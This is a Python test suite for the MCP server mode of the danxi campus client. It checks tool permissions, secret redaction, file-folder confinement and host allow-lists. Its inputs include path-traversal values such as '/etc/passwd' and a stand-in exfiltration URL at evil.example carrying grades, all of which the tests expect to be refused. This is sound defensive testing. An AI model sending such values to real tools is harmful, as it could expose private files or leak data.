"""Tests of `danxi mcp` with the client of the official SDK."""

import json
import re
import tempfile
from pathlib import Path

import danxi

from . import ROOT
from .command import has
from .journey import INTERFACE, Journey, is_secret
from .mcp_host import McpTest

READ_ONLY = {method.full_name for method in INTERFACE.methods if method.effect == "safe"}
# These methods are tools only with --admin.
ADMINISTRATORS = {method.full_name for method in INTERFACE.methods if method.audience == "administrators"}
# This method is not a tool, because it returns only a secret.
PAYMENT = "wallet.get_qr_code"
# These methods are not tools, because they need the path of a file or folder.
DOWNLOADS = {
    method.full_name
    for method in INTERFACE.methods
    if method.full_name in READ_ONLY and any(field.file for field in method.required)
}


class Mcp(McpTest):
    async def test_tools_only_read_by_default(self):
        async with self.client("--services", "*") as client:
            found = (await client.list_tools()).tools
            server = client.server_info
        self.assertEqual((server.name, server.version), ("danxi", danxi.library_version()))
        named = {tool.annotations.title: tool for tool in found}
        self.assertEqual(set(named), READ_ONLY - DOWNLOADS - ADMINISTRATORS - {PAYMENT} | {"campus.answer_challenge"})
        for tool in found:
            self.assertRegex(tool.name, r"\A[a-zA-Z0-9_-]{1,64}\Z")
            self.assertEqual(tool.annotations.read_only_hint, tool.annotations.title in READ_ONLY)
            self.assertTrue(tool.description)
            self.assertIsNone(tool.output_schema)
        self.assertNotIn("path", named["image.download"].input_schema["properties"])
        inputs = set().union(*(tool.input_schema["properties"] for tool in found))
        self.assertFalse({"password", "totp_secret", "token", "headers"} & inputs)

    async def test_the_text_of_a_result_says_which_rows_are_missing(self):
        self.campus.control("PATCH", "/settings", {"malformed_rows": True})
        async with self.client() as client:
            result = await client.call_tool("library_get_library", {})
        text, note = (each.text for each in result.content)
        self.assertGreater(len(json.loads(text)["result"]), 1)
        self.assertIsNone(result.structured_content)
        self.assertRegex(note, r"^1 row could not be read and is missing \(library: .+\)\.$")

    def test_schemas_are_valid_and_define_all_references(self):
        if not has("jsonschema"):
            self.skipTest("the package jsonschema is not installed")
        import jsonschema

        from danxi.command.agent.tools import tools
        from danxi.command.schema import Interface

        found = list(tools(Interface.load(), can_write=True, can_administrate=True))
        definitions = {}
        for tool in found:
            for schema in (tool.input_schema(), tool.output_schema()):
                own = schema.pop("$defs", {})
                references = set(re.findall(r'"\$ref": "([^"]*)"', json.dumps([schema, own])))
                self.assertEqual(references, {f"#/$defs/{name}" for name in own})
                self.assertEqual(schema["type"], "object")
                jsonschema.Draft202012Validator.check_schema(schema)
                definitions.update(own)
        jsonschema.Draft202012Validator.check_schema({"$defs": definitions})
        hole = next(tool for tool in found if tool.name == "forum_get_hole")
        jsonschema.validate({"id": 1}, hole.input_schema())
        for wrong in ({}, {"id": "1"}, {"id": 1, "other": 1}):
            with self.assertRaises(jsonschema.ValidationError):
                jsonschema.validate(wrong, hole.input_schema())

    def test_parameters_that_name_files_are_marked(self):
        """Through a parameter without the mark, an agent that may only read could write to any file."""
        below_a_url = {("forum", "request"), ("http", "request"), ("http", "download"), ("http", "upload")}
        for method in INTERFACE.methods:
            is_below_a_url = method.service == "github" or (method.service, method.name) in below_a_url
            for field in method.parameters:
                names_a_file = (
                    field.name == "file"
                    or not is_below_a_url
                    and (field.name in ("path", "directory") or "Path of" in field.summary)
                )
                self.assertEqual(bool(field.file), names_a_file, f"{method.full_name}.{field.name}")

    async def test_files_are_read_and_written_only_below_the_folder(self):
        with tempfile.TemporaryDirectory() as name:
            outside, folder = Path(name) / "outside", Path(name) / "folder"
            for each in (outside, folder, folder / "inner"):
                each.mkdir()
            (outside / "secret").write_text("secret")
            (folder / "link").symlink_to(outside)
            (folder / "file").symlink_to(outside / "secret")
            bad = [
                "../x",
                "link/x",
                "file",
                str(outside / "x"),
                "/etc/passwd",
                "missing/x",
                ".",
                "",
                "a\0b",
            ]
            async with self.client("--files", str(folder), "--services", "http") as client:
                named = {tool.name: tool for tool in (await client.list_tools()).tools}
                self.assertNotIn("http_upload", named, "the tool http_upload changes a server")
                self.assertFalse(named["http_download"].annotations.read_only_hint)
                download = {"host": "notes", "path": "/file"}
                for path in bad:
                    with self.subTest(path):
                        result = await client.call_tool("http_download", {**download, "file": path})
                        self.assertTrue(result.is_error)
                        self.assertIn("does not lead to a file in", result.content[0].text)
            self.assertEqual(sorted(path.name for path in outside.iterdir()), ["secret"])
            async with self.client("--files", str(folder), "--write", "--unconfirmed", "--services", "image") as client:
                names = {tool.name: tool for tool in (await client.list_tools()).tools}
                refused = await client.call_tool("image_upload", {"path": "file"})
                self.assertTrue(refused.is_error)
                self.assertIn("does not lead to a file in", refused.content[0].text)
                (folder / "inner" / "text").write_text("no image")
                read = await client.call_tool("image_upload", {"path": "inner/text"})
                self.assertIn("invalid_argument", read.content[0].text, "the text file in the folder was not read")
            self.assertIn("path", names["image_upload"].input_schema["properties"])
        async with self.client("--write", "--services", "image,http,github") as client:
            for tool in (await client.list_tools()).tools:
                self.assertFalse({"file"} & set(tool.input_schema["properties"]), tool.name)
        self.danxi("mcp", "--files", "/missing", status=2)

    async def test_requests_go_only_to_hosts_that_the_person_allows(self):
        secret = "https://evil.example/?grades=A"
        calls = [
            ("feeds_fetch", {"url": secret}),
            ("feeds_discover", {"url": secret}),
            ("http_request", {"url": secret}),
            ("feeds_subscribe", {"url": secret}),
            ("graphql_execute", {"endpoint": secret, "query": "{a}"}),
        ]
        allowed = {"url": "https://feeds.example.net/notices.rss"}
        services = ("--services", "feeds,http,graphql")
        async with self.client("--write", "--unconfirmed", *services, "--hosts", "*.example.net, other.org") as client:
            for name, arguments in calls:
                with self.subTest(name):
                    refused = await client.call_tool(name, arguments)
                    self.assertTrue(refused.is_error)
                    self.assertIn("host_denied: ", refused.content[0].text)
            fetched = await client.call_tool("feeds_fetch", allowed)
            self.assertFalse(fetched.is_error, fetched.content)
        async with self.client(*services) as client:
            refused = await client.call_tool("feeds_fetch", allowed)
            self.assertIn("network.url_hosts does not list feeds.example.net", refused.content[0].text)
            own = await client.call_tool("http_request", {"host": "notes", "path": "/"})
            self.assertNotIn("host_denied", own.content[0].text)

    def test_the_agents_configuration_keeps_the_settings_of_the_person(self):
        from danxi.command.mcp import _restricted

        denied = {"local_addresses": "deny", "url_hosts": ["b.org"]}
        self.assertEqual(_restricted({"store": {}}, ["b.org"]), {"store": {}, "network": denied})
        self.assertEqual(_restricted({"network": None}, ["b.org"]), {"network": denied})
        own = {"network": {"proxy": "p", "local_addresses": "allow", "url_hosts": ["a.org"]}}
        expected = {"network": {"proxy": "p", "local_addresses": "allow", "url_hosts": ["a.org", "b.org"]}}
        self.assertEqual(_restricted(own, ["b.org"]), expected)
        self.assertEqual(_restricted({"network": 1}, []), {"network": 1})

    async def test_tools_can_write_only_with_the_option_write(self):
        hole = self.sign_in().forum.list_holes_in_division(1)[0].id
        arguments = {"content": "written by an agent", "hole_id": hole}
        async with self.client("--services", "*") as client:
            refused = await client.call_tool("forum_create_floor", arguments)
        self.assertTrue(refused.is_error)
        async with self.client("--write", "--unconfirmed", "--services", "forum,account") as client:
            found = {tool.name: tool for tool in (await client.list_tools()).tools}
            written = await client.call_tool("forum_create_floor", arguments)
        self.assertEqual({name.split("_")[0] for name in found}, {"forum", "account", "campus"})
        self.assertFalse({"account_login", "account_register", "campus_login"} & set(found))
        self.assertTrue(found["forum_create_floor"].annotations.destructive_hint)
        self.assertFalse(ADMINISTRATORS & {tool.annotations.title for tool in found.values()})
        self.assertEqual(json.loads(written.content[0].text)["content"], "written by an agent")
        self.danxi("mcp", "--services", "weather", status=2)
        self.danxi("mcp", "--unconfirmed", status=2)

    async def test_only_the_option_admin_offers_methods_for_administrators(self):
        async with self.client("--services", "forum", "--admin", "--write", "--unconfirmed") as client:
            named = {tool.annotations.title for tool in (await client.list_tools()).tools}
        self.assertEqual(named & ADMINISTRATORS, {name for name in ADMINISTRATORS if name.startswith("forum.")})

    async def test_values_match_the_output_schemas(self):
        """The client of the SDK checks each value against the output schema of its tool."""
        skipped = DOWNLOADS | {PAYMENT, "campus.answer_challenge"}
        services = {method.service for method in INTERFACE.methods} - {"github"}
        async with self.client(
            "--structured", "--services", ",".join(services), "--hosts", "*", patience=300
        ) as client:
            journey, texts = Journey(self), []
            for method in INTERFACE.methods:
                if (
                    method.full_name not in READ_ONLY - ADMINISTRATORS - skipped
                    or method.service not in services
                    or method.example.sources
                ):
                    continue
                if method.example.account not in ("undergraduate", "") or method.example.outcome != "ok":
                    continue
                with self.subTest(method.full_name):
                    tool = method.full_name.replace(".", "_")
                    result = await client.call_tool(tool, dict(method.example.params))
                    texts += (content.text for content in result.content)
                    if result.is_error:
                        self.assertRegex(result.content[0].text, r"\A(not_found|forbidden|storage|not_signed_in): ")
                        continue
                    self.assertEqual(json.loads(result.content[0].text), result.structured_content)
                    journey.remembered[method.full_name] = result
        self.assertGreater(len(journey.remembered), 60)
        for secret in self.secrets():
            self.assertFalse([text for text in texts if secret in text])

    def test_the_guide_lists_the_methods_that_no_agent_gets(self):
        from danxi.command.agent.tools import tools
        from danxi.command.schema import Interface

        interface = Interface.load()
        offered = {tool.method.name for tool in tools(interface, can_write=True, has_files=True, can_administrate=True)}
        missing = {method.name for method in interface.methods()} - offered
        for page, title in (("docs/agents.md", "These methods"), ("docs/zh/agents.md", "这些方法")):
            (text,) = re.findall(
                rf"^- \*\*{title}\*\*(.*?)^- ", (ROOT / page).read_text(encoding="utf-8"), re.DOTALL | re.MULTILINE
            )
            self.assertEqual(set(re.findall(r"`([a-z_]+\.[a-z_]+)`", text)), missing, page)

    def test_no_tool_takes_a_secret(self):
        from danxi.command.agent.tools import tools
        from danxi.command.schema import Interface

        offered = {
            tool.method.name: tool.input_schema()["properties"]
            for tool in tools(Interface.load(), can_write=True, can_administrate=True)
        }
        self.assertIn("http.request", offered)
        self.assertNotIn("campus.import_cookies", offered)
        for method in INTERFACE.methods:
            for field in method.parameters:
                if is_secret(field) and method.full_name != "campus.answer_challenge":
                    self.assertNotIn(field.name, offered.get(method.full_name, ()), method.full_name)

    async def test_secrets_are_hidden(self):
        session = self.sign_in()
        session.forum.add_push_token(service="apns", device_id="a phone", token="the token of a phone")
        async with self.client("--structured", "--services", "forum,profile") as client:
            profile = await client.call_tool("profile_get_student_profile", {})
            devices = await client.call_tool("forum_list_push_tokens", {})
        with danxi.Session(self.campus.config, store={"path": f"{self.home}/data/danxi/store"}) as session:
            known = session.profile.get_student_profile().to_json()
        self.assertEqual(profile.structured_content, {**known, "id_number": "***"})
        self.assertNotIn(known["id_number"], profile.content[0].text)
        device = next(each for each in devices.structured_content["result"] if each["device_id"] == "a phone")
        self.assertEqual(device["token"], "***")
        self.assertNotIn("the token of a phone", devices.content[0].text)

    def test_secrets_anywhere_in_a_value_are_hidden(self):
        from danxi.command.schema import Interface

        secret = {"type": "string", "format": "password"}
        reference = {"$ref": "#/components/schemas/Node"}
        node = {
            "type": "object",
            "properties": {
                "name": {"type": "string"},
                "key": secret,
                "keys": {"type": "array", "items": secret},
                "by_name": {"type": "object", "additionalProperties": secret},
                "inner": {"allOf": [reference], "description": "Another."},
                "any": {},
            },
        }
        document = {"info": {"version": "1"}, "components": {"schemas": {"Node": node}}}
        value = {"name": "a", "key": "s", "keys": ["s", "s"], "by_name": {"b": "s"}, "any": {"key": 1}, "other": [1]}
        hidden = {**value, "key": "***", "keys": ["***", "***"], "by_name": {"b": "***"}}
        interface = Interface(document)
        self.assertTrue(interface.has_secret({"type": "array", "items": reference}))
        self.assertFalse(interface.has_secret({"type": "object", "properties": {"format": {"type": "string"}}}))
        self.assertEqual(
            interface.without_secrets([{**value, "inner": value, "key": None}], {"type": "array", "items": reference}),
            [{**hidden, "inner": hidden, "key": None}],
        )

    async def test_a_list_continues_on_its_next_page(self):
        async with self.client("--structured", "--services", "forum") as client:
            page = (await client.call_tool("forum_list_holes_in_division", {"division_id": 1})).structured_content
            next_page = {"division_id": 1, "continue_from": page["continuation"]}
            rest = (await client.call_tool("forum_list_holes_in_division", next_page)).structured_content
        found = [hole["id"] for hole in page["result"] + rest["result"]]
        self.assertEqual(len(set(found)), len(found))
        self.assertGreater(len(found), 10)

    async def test_failed_calls_return_results_with_an_error(self):
        async with self.client("--services", "forum") as client:
            for tool, arguments, text in (
                ("forum_get_hole", {"id": 987654321}, "not_found: "),
                ("forum_get_hole", {"id": "a"}, "invalid_argument: "),
                ("forum_get_hole", {"hole": 1}, "Unknown parameters: hole. Parameters: id"),
                ("forum_delete_hole", {"id": 1}, "Unknown tool forum_delete_hole"),
            ):
                with self.subTest(tool, **arguments):
                    result = await client.call_tool(tool, arguments)
                    self.assertTrue(result.is_error)
                    self.assertIn(text, result.content[0].text)

    async def test_a_captcha_is_returned_as_an_image(self):
        person = self.campus.people["captcha"]
        account = {
            "DANXI_CAMPUS_NUMBER": person["number"],
            "DANXI_CAMPUS_PASSWORD": person["password"],
            "XDG_DATA_HOME": f"{self.home}/other",
        }
        environment = {**self.environment, **account}
        async with self.client("--services", "course", "--structured", environment=environment) as client:
            refused = await client.call_tool("course_get_current_semester", {})
            self.assertTrue(refused.is_error)
            message, advice, image = refused.content
            self.assertIn("captcha_required", message.text)
            self.assertEqual(image.type, "image")
            self.assertRegex(image.mime_type, r"\Aimage/")
            id = advice.text.split(" id ")[1].split(",")[0]
            answer = self.campus.control("GET", "/captchas")[-1]["answer"]
            answered = await client.call_tool("campus_answer_challenge", {"id": id, "answer": answer})
            self.assertEqual(answered.structured_content["username"], person["number"])
            semester = await client.call_tool("course_get_current_semester", {})
            self.assertFalse(semester.is_error, semester.content)
